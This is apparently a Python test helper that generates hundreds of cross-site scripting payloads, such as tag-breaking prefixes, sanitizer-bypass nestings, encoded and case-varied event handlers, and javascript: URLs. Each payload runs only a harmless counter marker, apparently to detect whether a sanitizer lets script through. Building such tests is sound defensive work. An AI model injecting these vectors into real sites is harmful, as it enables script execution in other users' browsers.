"""What somebody may type, or bring in a file, who wants a script to run in another's browser: each payload leaves a mark."""

from __future__ import annotations

import random

RUN = "top.ran=1+(top.ran|0)"  # what each payload does where it runs
CODED = "".join(f"&#{ord(sign)};" for sign in RUN)
BREAKS = (
    "", '">', "'>", "</textarea>", "</title>", "-->", "</script>", "]]>", "</style>", "\"'><", "</option></select>", "</td></tr>",
    "<!--><", "</noscript>", "`>", "\\\">", "\u2028", "x\x0c",
)  # fmt: skip
SPACES = (" ", "/", "\t", "\n", " \x0c", "/ /")
CASES = (str, str.upper, lambda name: "".join(c.upper() if n % 2 else c for n, c in enumerate(name)))
SELF_MADE = (  # tag, what else it says, the event that comes by itself
    ("img", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload"), ("body", "", "onpageshow"),
    ("input", "autofocus", "onfocus"), ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"),
    ("details", "open", "ontoggle"), ("audio", "src=x", "onerror"), ("video", "src=x", "onerror"), ("object", "data=x", "onerror"),
    ("iframe", "src=/healthz", "onload"), ("link", "rel=stylesheet href=/healthz", "onload"), ("style", "", "onload"),
    ("script", "src=/nothing.js", "onerror"), ("marquee", "", "onstart"), ("a", "tabindex=1 autofocus href=x", "onfocus"),
    ("div", "contenteditable autofocus", "onfocus"), ("embed", "src=/healthz", "onload"), ("image", "src=x", "onerror"),
    ("p", "tabindex=0 autofocus", "onfocus"), ("x", "tabindex=0 autofocus", "onfocus"), ("table", "background=x", "onload"),
)  # fmt: skip
QUOTES = ("{}", '"{}"', "'{}'", "`{}`")
WHOLE = (
    f"<script>{RUN}</script>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} />",
    f"<math><mtext><script>{RUN}</script>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe src="java&#10;script:{CODED}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href=" &#14; javascript:{RUN}">x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<button formaction="javascript:{RUN}" form=f>x</button>',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<base href="javascript:{RUN}//">',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x to=1>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/>',
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f'<math href="javascript:{RUN}">x</math>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<style>@keyframes k{{}}</style><p style="animation-name:k" onanimationstart={RUN}>x</p>',
    f"<style>@import 'javascript:{RUN}';</style>",
    f'<p style="background:url(javascript:{RUN})">x</p>',
    f'<p style="width:expression({RUN})">x</p>',
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"<\x00script>{RUN}</script>",
    f"<img src=x one\x00rror={RUN}>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"' autofocus tabindex=1 onfocus={RUN} x='",
    f'" autofocus tabindex=1 onfocus={RUN} x="',
    f"x autofocus tabindex=1 onfocus={RUN} ",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"';{RUN};'",
    f'";{RUN};"',
    f"${{{RUN}}}",
    f"</script><script>{RUN}</script>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f'<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script>',
    f"photo.png<img src=x onerror={RUN}>.pdf",
    f'x.svg"><svg onload={RUN}>',
    f"[x](javascript:{RUN})",
    f'![x](x"onerror="{RUN})',
    f'<https://x.example/"onfocus={RUN} autofocus x=">',
    f"<a hx-get=/ hx-on:htmx:load={RUN} hx-trigger=load>x</a>",
    f"<div hx-on::load={RUN} hx-get=/healthz hx-trigger=load>x</div>",
)


def payloads(number: int, rng: random.Random) -> list[str]:
    """So many different ones: every one that stands by itself, the rest drawn from all that can be put together."""
    made = [before + text for before in BREAKS for text in WHOLE]
    made += [
        f"{before}<{case(tag)}{space}{more}{space}{case(event)}={quote.format(RUN)}>"
        for before in BREAKS for tag, more, event in SELF_MADE for space in SPACES for case in CASES for quote in QUOTES
    ]  # fmt: skip
    others = sorted(set(made) - set(WHOLE))
    return [*WHOLE, *rng.sample(others, max(0, number - len(WHOLE)))][:number]
